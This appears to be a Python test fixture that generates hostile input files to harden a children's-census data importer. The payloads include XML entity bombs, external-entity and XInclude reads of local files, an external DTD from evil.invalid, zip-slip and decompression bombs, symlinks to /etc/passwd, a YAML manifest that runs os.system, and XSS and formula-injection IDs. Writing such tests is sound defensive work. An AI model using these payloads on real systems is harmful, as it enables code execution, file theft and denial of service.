"""Files that somebody meant to be harmful: each a name and how to write it into an empty folder. What is written is what a run is given."""

from __future__ import annotations

import os
import re
import stat
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import numpy as np
import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq

from hostile import parquet_lies

Attack = Callable[[Path], Path]

_CENSUS = (
    "<Message><Header><CollectionDetails><Collection>CIN</Collection><Year>2024</Year><ReferenceDate>2024-03-31</ReferenceDate>"
    "</CollectionDetails></Header><Children>{}</Children></Message>"
)
_CHILD = "<Child><ChildIdentifiers><LAchildID>{}</LAchildID><PersonBirthDate>2010-01-01</PersonBirthDate></ChildIdentifiers></Child>"


def attacks() -> dict[str, Attack]:
    """Every attack, by name."""
    return {name.removeprefix("_attack_"): found for name, found in globals().items() if name.startswith("_attack_")}


def _zipped(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as held:
        for name, data in members.items():
            held.writestr(name, data)
    return path


def _table(folder: Path, name: str, lines: Iterator[str] | list[str]) -> Path:
    with (folder / name).open("w", encoding="utf-8", newline="") as file:
        file.writelines(f"{line}\n" for line in lines)
    return folder


def _census(folder: Path, text: str) -> Path:
    path = folder / "cin.xml"
    path.write_text(text, encoding="utf-8")
    return path


def _attack_entities_that_multiply(folder: Path) -> Path:
    lines = "".join(f"<!ENTITY e{n + 1} '" + f"&e{n};" * 10 + "'>" for n in range(12))
    return _census(folder, f'<!DOCTYPE m [<!ENTITY e0 "ha">{lines}]>' + _CENSUS.format(_CHILD.format("&e12;")))


def _attack_one_entity_many_times(folder: Path) -> Path:
    return _census(folder, f'<!DOCTYPE m [<!ENTITY e "{"x" * 1_000_000}">]>' + _CENSUS.format(_CHILD.format("&e;" * 5_000)))


def _attack_an_entity_from_a_file(folder: Path) -> Path:
    (folder / "secret.txt").write_text("the-secret", encoding="utf-8")
    return _census(folder, f'<!DOCTYPE m [<!ENTITY e SYSTEM "{(folder / "secret.txt").as_uri()}">]>' + _CENSUS.format(_CHILD.format("&e;")))


def _attack_a_grammar_from_elsewhere(folder: Path) -> Path:
    return _census(folder, '<!DOCTYPE m SYSTEM "http://evil.invalid/x.dtd">' + _CENSUS.format(_CHILD.format("C1")))


def _attack_an_include(folder: Path) -> Path:
    (folder / "secret.txt").write_text("the-secret", encoding="utf-8")
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{(folder / "secret.txt").as_uri()}" parse="text"/>'
    return _census(folder, _CENSUS.format(_CHILD.format(include)))


def _attack_elements_within_elements(folder: Path) -> Path:
    return _census(folder, _CENSUS.format("<Child>" * 200_000 + "</Child>" * 200_000))


def _attack_an_endless_attribute(folder: Path) -> Path:
    return _census(folder, _CENSUS.format(f'<Child a="{"x" * 30_000_000}"/>'))


def _attack_a_hundred_thousand_attributes(folder: Path) -> Path:
    attributes = " ".join(f"a{n}='x'" for n in range(100_000))
    return _census(folder, _CENSUS.format(f"<Child {attributes}/>"))


def _attack_a_cell_of_200_megabytes(folder: Path) -> Path:
    return _table(folder, "children.csv", ["child_id,gender", f"C1,{'x' * 200_000_000}"])


def _attack_a_quoted_cell_of_200_megabytes(folder: Path) -> Path:
    return _table(folder, "children.csv", ["child_id,gender", 'C1,"' + "x\n" * 100_000_000])


def _attack_an_id_of_a_megabyte(folder: Path) -> Path:
    return _table(folder, "children.csv", ["child_id", "C" * 1_000_000])


def _attack_a_heading_of_a_hundred_thousand_names(folder: Path) -> Path:
    return _table(folder, "children.csv", ["child_id," + ",".join(f"c{n}" for n in range(100_000)), "C1"])


def _attack_a_row_of_a_million_cells(folder: Path) -> Path:
    return _table(folder, "children.csv", ["child_id", "C1" + "," * 1_000_000])


def _attack_a_million_wrong_rows(folder: Path) -> Path:
    _table(folder, "children.csv", ["child_id", "C1"])
    return _table(folder, "visits.csv", ("V,C1,2015-99-99,x,y,z,=1" for _ in range(1_000_000)))


def _attack_names_that_lead_out(folder: Path) -> Path:
    return _zipped(folder / "out.zip", {"children.csv": b"child_id\nC1\n", "../../escaped.csv": b"child_id\nC2\n"})


def _attack_a_link_in_an_archive(folder: Path) -> Path:
    path = folder / "link.zip"
    with zipfile.ZipFile(path, "w") as held:
        member = zipfile.ZipInfo("children.csv")
        member.external_attr = (stat.S_IFLNK | 0o777) << 16
        held.writestr(member, "/etc/passwd")
    return path


def _attack_an_archive_in_an_archive(folder: Path) -> Path:
    inner = _zipped(folder / "inner.zip", {"children.csv": b"child_id\nC1\n"}).read_bytes()
    for _ in range(5):
        inner = _zipped(folder / "inner.zip", {"inner.zip": inner}).read_bytes()
    return folder / "inner.zip"


def _attack_an_archive_that_unpacks_to_gigabytes(folder: Path) -> Path:
    path = folder / "bomb.zip"
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as held,
        held.open("children.csv", "w", force_zip64=True) as member,
    ):
        member.write(b"child_id\n")
        for _ in range(300):
            member.write(b"C1\n" * 1_000_000)
    return path


def _attack_a_workbook_that_unpacks_to_gigabytes(folder: Path) -> Path:
    path = folder / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as held:
        held.writestr("xl/workbook.xml", '<workbook><sheets><sheet name="List_1" sheetId="1"/></sheets></workbook>')
        with held.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            for _ in range(300):
                member.write(b"<row><c><v>1</v></c></row>" * 100_000)
    return path


def _attack_an_archive_that_lies_about_its_size(folder: Path) -> Path:
    path = _zipped(folder / "liar.zip", {"children.csv": b"child_id\n" + b"C1\n" * 30_000_000})
    data = bytearray(path.read_bytes())
    at = data.rfind(b"PK\x01\x02")
    data[at + 24 : at + 28] = (100).to_bytes(4, "little")
    path.write_bytes(bytes(data))
    return path


def _attack_ten_thousand_members(folder: Path) -> Path:
    return _zipped(folder / "many.zip", {"children.csv": b"child_id\nC1\n"} | {f"t{n}.csv": b"child_id\nC1\n" for n in range(10_000)})


def _attack_ten_thousand_files(folder: Path) -> Path:
    for n in range(10_000):
        (folder / f"t{n}.csv").write_bytes(b"child_id\nC1\n")
    return _table(folder, "children.csv", ["child_id", "C1"])


def _attack_a_link_to_a_file_outside(folder: Path) -> Path:
    (folder / "secret.txt").write_text("child_id\nthe-secret\n", encoding="utf-8")
    (folder / "export").mkdir()
    (folder / "export" / "children.csv").symlink_to(folder / "secret.txt")
    return folder / "export"


def _attack_a_link_to_a_device(folder: Path) -> Path:
    (folder / "children.csv").symlink_to("/dev/zero")
    return folder


def _attack_a_pipe_that_nobody_writes(folder: Path) -> Path:
    _table(folder, "children.csv", ["child_id", "C1"])
    os.mkfifo(folder / "visits.csv")
    return folder


def _attack_a_manifest_that_is_code(folder: Path) -> Path:
    (folder / "manifest.yml").write_text(f'as_of: !!python/object/apply:os.system ["touch {folder.parent / "owned"}"]\n', encoding="utf-8")
    return _table(folder, "children.csv", ["child_id", "C1"])


def _attack_a_manifest_whose_anchors_multiply(folder: Path) -> Path:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"] + [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12)]
    (folder / "manifest.yml").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return _table(folder, "children.csv", ["child_id", "C1"])


def _attack_a_manifest_within_itself(folder: Path) -> Path:
    (folder / "manifest.yml").write_text("&a [*a, " + "[" * 5_000 + "\n", encoding="utf-8")
    return _table(folder, "children.csv", ["child_id", "C1"])


def _attack_ids_that_are_paths(folder: Path) -> Path:
    ids = [
        "../../escaped",
        "/etc/passwd",
        "C:\\x",
        "con",
        "a/b",
        ".",
        "..",
        "x" * 300,
        "<img src=x onerror=alert(1)>",
        "=1+1",
        "\u202eC1",
        "a\x00b",
    ]
    _table(folder, "children.csv", ["child_id", *ids])
    return _table(
        folder, "plans.csv", ["plan_id,child_id,kind,started_on", *(f"P{n},{i},child_protection,2013-01-01" for n, i in enumerate(ids))]
    )


def _workbook(path: Path, sheets: int, far: str) -> Path:
    """An Annex A workbook with a stray cell on each of its sheets."""
    cell = re.fullmatch(r"([A-Z]+)(\d+)", far)
    assert cell is not None
    book = openpyxl.Workbook()
    book.remove(book.worksheets[0])
    for number in range(1, sheets + 1):
        sheet = book.create_sheet(f"List {number}")
        sheet.append(["Child Unique ID", "Gender", "Ethnicity", "Date of Birth", "Age"])
        sheet.append(["C1", "b) Female", "a) WBRI", "2010-01-01", 5])
        sheet[far] = "x"
    book.save(path)
    return path


def _attack_a_cell_in_the_last_corner(folder: Path) -> Path:
    return _workbook(folder / "corner.xlsx", 1, "XFD1048576")


def _attack_a_stray_cell_on_each_sheet(folder: Path) -> Path:
    return _workbook(folder / "stray.xlsx", 11, "Z1048576")


def _attack_a_parquet_file_that_swells(folder: Path) -> Path:
    places = pa.array(np.zeros(6_000_000, np.int32))
    names = {name: pa.DictionaryArray.from_arrays(places, [letter * 300]) for name, letter in (("child_id", "C"), ("gender", "x"))}
    pq.write_table(pa.table(names), folder / "children.parquet", compression="zstd", store_schema=False)
    return folder


def _attack_a_parquet_file_whose_footer_lies(folder: Path) -> Path:
    """Of less than a thousand bytes, that took 8 GB: one value by its footer, a hundred thousand of a megabyte each by its pages."""
    places = pa.array(np.zeros(100_000, np.int32))
    table = pa.table({"child_id": pa.DictionaryArray.from_arrays(places, ["x" * (1 << 20)])})
    pq.write_table(table, folder / "children.parquet", compression="zstd", store_schema=False)
    file = parquet_lies.File(folder / "children.parquet")
    for chunk in file.chunks():
        parquet_lies.put(chunk, 100, parquet_lies.UNCOMPRESSED)
        parquet_lies.put(chunk, 1, parquet_lies.VALUES)
    file.write()
    return folder


def _attack_a_parquet_file_that_ends_its_reader(folder: Path) -> Path:
    """Arrow (26.0.1, say) ends the process when it is asked about a column whose footer contradicts its schema."""
    pq.write_table(pa.table({"child_id": ["C1"]}), folder / "children.parquet", store_schema=False)
    file = parquet_lies.File(folder / "children.parquet")
    parquet_lies.put(file.footer, 0, 2, 1, 3)
    file.write()
    return folder


def _case(folder: Path, child: str, text: str) -> Path:
    _table(folder, "children.csv", ["child_id,gender", f"{child},{text}"])
    return _table(folder, "plans.csv", ["plan_id,child_id,kind,started_on,category", f"P{text},{child},child_protection,2013-01-01,{text}"])


def _attack_text_that_runs_backwards(folder: Path) -> Path:
    return _case(folder, "C\u202e1\u2066", "\u202etxet\u202c\u200f")


def _attack_null_bytes(folder: Path) -> Path:
    return _case(folder, "C\x001", "a\x00b\x00")
